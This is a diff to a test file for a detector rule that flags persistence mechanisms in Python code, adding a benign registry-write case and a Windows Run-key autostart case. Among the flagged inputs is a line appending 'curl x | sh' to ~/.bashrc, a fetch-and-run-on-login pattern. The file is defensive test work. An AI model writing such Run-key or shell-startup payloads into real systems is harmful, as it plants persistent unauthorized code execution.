@@ -17,6 +17,10 @@ ruleTester(persistence, PYTHON, {
     { name: 'a tar archive opened for writing', input: "import tarfile\ntarfile.open('site-packages/a.pth', 'w')\n" },
     { name: 'crontab listed, not installed', input: "import os\nos.system('crontab -l')\n" },
     { name: 'a git hook sample copied', input: "import shutil\nshutil.copy('hook', '.git/hooks/pre-commit.sample')\n" },
+    {
+      name: 'a registry value outside Run keys',
+      input: "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\MyApp')\nwinreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'y')\n",
+    },
     { name: 'logs redirected', input: "import os\nos.system('python train.py > logs/train.log 2>&1')\n" },
   ],
   invalid: [
@@ -93,6 +97,12 @@ ruleTester(persistence, PYTHON, {
       name: '%%writefile exported as run_cell_magic',
       input: "get_ipython().run_cell_magic('writefile', '-a ~/.bashrc', 'curl x | sh\\n')\n",
       errors: [{ severity: 'high', message: '%%writefile' }],
+    },
+    {
+      name: 'a Windows Run key through winreg',
+      input:
+        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, exe)\n",
+      errors: [{ severity: 'high', message: 'winreg.SetValueEx at line 3, column 1 writes a Windows Run registry key' }],
     },
   ],
 });
